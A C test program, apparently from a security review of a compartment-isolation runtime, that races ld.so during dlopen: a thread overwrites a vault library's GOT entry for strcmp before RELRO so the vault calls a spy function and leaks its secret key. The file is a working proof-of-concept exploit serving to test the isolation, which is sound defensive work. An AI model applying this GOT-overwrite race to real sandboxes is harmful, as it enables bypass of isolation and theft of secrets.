/* The program of review14-got-race.racy: a hardened program (the
 * system-call filter on) with a compartment of its own dlopens
 * libgotvault.so (argv[1]) while a second thread, with key-0 loads and
 * stores only, watches ld.so's list of objects (_r_debug), finds the vault
 * once mapped, and watches the word of its GOT that strcmp's relocation
 * writes (its offset from the object's base, in hex, in the file argv[2],
 * from llvm-readelf -r, then spy's offset in this program, from llvm-nm).
 * The moment ld.so has written strcmp's address there, the thread stores
 * the address of spy(), a function of this program (its code, not the
 * wrapper a C pointer to it gets), over it. ld.so makes
 * the GOT read-only (RELRO) only once all of the object's relocations are
 * done; registration (the object's filter, the key, the supervisor's
 * words, the exec step) checks none of the GOT's words but the stack
 * slot's. If the store lands before RELRO, the vault's entry vault_check
 * calls spy, with the vault's rights, with the vault's key as its second
 * argument. A store that comes after RELRO faults: that attempt is lost
 * (the child dies). Each attempt is a child, forked before its dlopen;
 * keys are given once for every process the supervisor serves, so the
 * reserved keys bound the attempts. */
#include "../../runtime/Inputs/check.h"
#include <dlfcn.h>
#include <link.h>
#include <pthread.h>
#include <sched.h>

BULKHEAD_DATA(local) static int local_value = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_value; }

static char stolen[64];

/* Default-domain code of the program: keeps what it is given. */
__attribute__((noinline)) int spy(const char *a, const char *b) {
  (void)a;
  for (int i = 0; i < 63 && b[i]; i++)
    stolen[i] = b[i];
  return 0;
}

static const char *path;
static unsigned long got_offset, spy_offset;
static volatile int done, started;
static volatile unsigned long target, seen, found, spins;
/* spy's own code, from the executable's symbol table and its base (the
 * first entry of ld.so's list): not the wrapper that a pointer taken in C
 * gets, which would enter the default domain first. */
static unsigned long spy_address;

static void *attacker(void *unused) {
  (void)unused;
  started = 1;
  while (!done)
    for (struct link_map *m = *(struct link_map *volatile *)&_r_debug.r_map; m;
         m = *(struct link_map *volatile *)&m->l_next) {
      const char *n = *(const char *volatile *)&m->l_name;
      if (!n || strcmp(n, path))
        continue;
      volatile unsigned long *w =
          (volatile unsigned long *)(m->l_addr + got_offset);
      found = 1;
      while (!done) {
        unsigned long v = *w;
        spins++;
        if (v == target) { /* ld.so just wrote it */
          *w = spy_address;
          seen = 1;
          return NULL;
        }
      }
      return NULL;
    }
  return NULL;
}

static int attempt(void) {
  pthread_t t;
  pthread_create(&t, NULL, attacker, NULL);
  while (!started) /* its start takes the loader's lock: before dlopen */
    sched_yield();
  void *h = dlopen(path, RTLD_NOW);
  done = 1;
  pthread_join(t, NULL);
  if (!h) {
    printf("dlopen refused: %s\n", dlerror());
    return 2;
  }
  int (*check)(const char *) = (int (*)(const char *))dlsym(h, "vault_check");
  CHECK(check);
  int r = check("a guess");
  if (stolen[0])
    printf("ATTACK SUCCEEDED: the vault called spy with its key: \"%s\"\n",
           stolen);
  else
    printf("attempt: no call of spy (vault %s, %lu reads of the word, store "
           "%s), vault_check %d\n",
           found ? "found" : "not found", spins, seen ? "made" : "not made", r);
  return stolen[0] ? 1 : 0;
}

int main(int argc, char **argv) {
  CHECK(argc > 3);
  path = argv[1];
  FILE *f = fopen(argv[2], "r");
  CHECK(f && fscanf(f, "%lx %lx", &got_offset, &spy_offset) == 2);
  fclose(f);
  int tries = atoi(argv[3]);
  CHECK(got_offset && tries > 0);
  setvbuf(stdout, NULL, _IONBF, 0);
  target = (unsigned long)(uintptr_t)dlsym(RTLD_DEFAULT, "strcmp");
  CHECK(target);
  spy_address = _r_debug.r_map->l_addr + spy_offset;
  CHECK(spy_address != (unsigned long)(uintptr_t)spy); /* the wrapper's */
  printf("local: %d\n", local_get());
  int won = 0;
  for (int i = 0; i < tries && !won; i++) {
    pid_t p = fork();
    CHECK(p >= 0);
    if (p == 0)
      _exit(attempt());
    int st;
    CHECK(waitpid(p, &st, 0) == p);
    if (WIFSIGNALED(st))
      printf("attempt: lost (signal %d: the store came after RELRO)\n",
             WTERMSIG(st));
    else
      won |= WEXITSTATUS(st) == 1;
  }
  printf("%s\n", won ? "won" : "review14-got-race: no attempt won");
  return 0;
}
